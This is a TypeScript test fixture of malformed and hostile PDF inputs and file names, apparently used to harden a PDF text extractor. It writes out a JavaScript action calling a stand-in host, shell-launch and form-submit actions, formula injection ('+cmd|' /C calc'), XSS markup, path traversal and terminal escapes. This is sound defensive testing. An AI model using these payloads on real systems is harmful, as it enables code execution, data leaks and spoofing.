import { pdfOf, streamOf } from "../../fixtures/pdf.js";
import { at } from "../../fixtures/reading.js";
import { type HostileCase, onePage, page } from "./case.js";

/** Text in a font whose map to characters is `map`; the codes shown are 1 to 9. */
function mapped(map: string): Uint8Array {
  const font = `/Font << /F1 3 0 R /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /ToUnicode 10 0 R >> >>`;
  return onePage("BT /F9 10 Tf 40 200 Td (ABCDEFGH 12) Tj ET", { resources: font }, [streamOf(map)]);
}

const cmap = (body: string): string =>
  `/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange\n${body}\nendcmap end`;

/** Characters of a map in UTF-16: an override of the direction, an escape, a null, half a character, a joiner. */
const CONTROLS = ["202E", "001B", "0000", "D800", "200D", "2028", "0007", "009B"]
  .map((code, i) => `<${(65 + i).toString(16)}> <${code}>`)
  .join("\n");

const action = (entries: string): Uint8Array =>
  pdfOf({
    pages: [
      page("", {
        entries: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A << ${entries} >> >>]`,
      }),
    ],
    catalogue: `/OpenAction << ${entries} >> /AA << /WC << ${entries} >> >>`,
  });

export const SLY: HostileCase[] = [
  {
    name: "a map of controls",
    bytes: () => mapped(cmap(`8 beginbfchar\n${CONTROLS}\nendbfchar`)),
    ends: "data",
  },
  {
    name: "a map of the whole range to one",
    bytes: () => mapped(cmap("1 beginbfrange <00> <FFFFFFFF> <0041> endbfrange")),
    ends: "data",
  },
  {
    // It could be taken for a raised ending of itself.
    name: "letters of no size",
    bytes: () =>
      onePage("BT /F1 0 Tf 40 200 Td (er) Tj 0 0 Td (er) Tj ET BT /F1 10 Tf 40 100 Td (Jeunes 12) Tj ET"),
    ends: "data",
  },
  {
    name: "a map cut short",
    bytes: () => mapped("/CIDInit /ProcSet findresource begin begincmap 9 beginbfchar <41"),
    ends: "data",
  },
  {
    name: "a sign that stands for 100 000 letters",
    bytes: () => mapped(cmap(`1 beginbfchar <41> <${"0041".repeat(100_000)}> endbfchar`)),
    ends: "data",
  },
  { name: "a map that uses itself", bytes: () => mapped("/Self usecmap begincmap endcmap"), ends: "data" },
  {
    name: "a font file that is none",
    bytes: () =>
      onePage(
        "BT /F9 10 Tf 40 200 Td (Bonjour 12) Tj ET",
        {
          resources:
            "/Font << /F1 3 0 R /F9 << /Type /Font /Subtype /TrueType /BaseFont /Broken /FontDescriptor << /Type /FontDescriptor /FontName /Broken /Flags 32 /FontFile2 10 0 R >> >> >>",
        },
        [streamOf("\u0000\u0001\u0000\u0000\u00ff\u00ff".repeat(40))],
      ),
    ends: "data",
  },
  {
    name: "a font of its own that draws itself",
    bytes: () =>
      onePage("BT /F9 10 Tf 40 200 Td (aaa) Tj ET", { resources: "/Font << /F1 3 0 R /F9 10 0 R >>" }, [
        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 11 0 R >> /Resources << /Font << /F9 10 0 R >> >> >>",
        streamOf("9 0 d0 BT /F9 1 Tf (aaa) Tj ET"),
      ]),
    ends: "data",
  },
  {
    name: "a script",
    bytes: () => action("/S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\); while\\(true\\){})"),
    ends: "data",
  },
  {
    name: "a program to start",
    bytes: () => action("/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >>"),
    ends: "data",
  },
  {
    name: "an address to call",
    bytes: () => action("/S /URI /URI (http://192.0.2.1/recoupe)"),
    ends: "data",
  },
  {
    name: "a form to send",
    bytes: () => action("/S /SubmitForm /F << /FS /URL /F (http://192.0.2.1/) >>"),
    ends: "data",
  },
  {
    name: "content kept elsewhere",
    bytes: () =>
      onePage("/X Do", { resources: "/XObject << /X 10 0 R >>" }, [
        streamOf(
          "abc",
          "/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceRGB /F << /FS /URL /F (http://192.0.2.1/x.png) >>",
        ),
      ]),
    ends: "data",
  },
  {
    name: "an attachment named out of its folder",
    bytes: () =>
      pdfOf({
        pages: [page("")],
        objects: [
          "<< /Type /Filespec /F (../../recoupe-escaped) /EF << /F 11 0 R >> >>",
          streamOf("escaped", "/Type /EmbeddedFile"),
        ],
        catalogue: "/Names << /EmbeddedFiles << /Names [(../../recoupe-escaped) 10 0 R] >> >>",
      }),
    ends: "data",
  },
  {
    name: "a name tree that holds itself",
    bytes: () =>
      pdfOf({
        pages: [page("")],
        objects: ["<< /Kids [10 0 R] >>"],
        catalogue:
          "/Names << /EmbeddedFiles 10 0 R /JavaScript 10 0 R >> /PageLabels 10 0 R /Outlines 10 0 R",
      }),
    ends: "data",
  },
  {
    name: "layers that hold themselves",
    bytes: () =>
      pdfOf({
        pages: [page("")],
        objects: ["<< /Type /OCG /Name 10 0 R >>"],
        catalogue: "/OCProperties << /OCGs [10 0 R] /D << /Order [10 0 R [10 0 R]] /ON 10 0 R >> >>",
      }),
    ends: "data",
  },
  {
    name: "formulas",
    bytes: () =>
      onePage(
        at(40, 200, '=HYPERLINK\\("http://192.0.2.1"\\) : 12 jeunes') +
          at(40, 180, "@SUM\\(1\\) 13 jeunes") +
          at(40, 160, "+cmd|' /C calc'!A0 : 14 jeunes"),
      ),
    ends: "data",
  },
  {
    name: "markup",
    bytes: () =>
      onePage(
        at(40, 200, "<script>alert(1)</script> : 12 jeunes") +
          at(40, 180, "</style><img src=x onerror=alert(2)> 13 jeunes"),
      ),
    ends: "data",
  },
  {
    name: "names that JavaScript gives a meaning",
    bytes: () =>
      onePage(
        ["__proto__", "constructor", "toString", "hasOwnProperty"]
          .map((name, i) => at(40, 200 - 20 * i, `${name} : ${12 + i} jeunes`))
          .join(""),
      ),
    ends: "data",
  },
  {
    name: "controls in the title",
    bytes: () =>
      pdfOf({
        pages: [page("")],
        info: "/Title (\\033[2J\\007\\r\\nRapport) /Author (\\376\\377\\040\\056)",
      }),
    ends: "data",
  },
];

/** File names that break lines, quotes, cells and folders. */
export const NAMES = [
  "deux\nlignes.pdf",
  "guille\"mets' et `accents` à é ü.pdf",
  "..%2f..%2féchappé.pdf",
  "..\\..\\échappé.pdf",
  "=cmd|calc.pdf",
  "\u202efdp.tropper.pdf",
  "\u001b[31mrouge\u001b[0m.pdf",
  "-n.pdf",
  "__proto__.pdf",
];
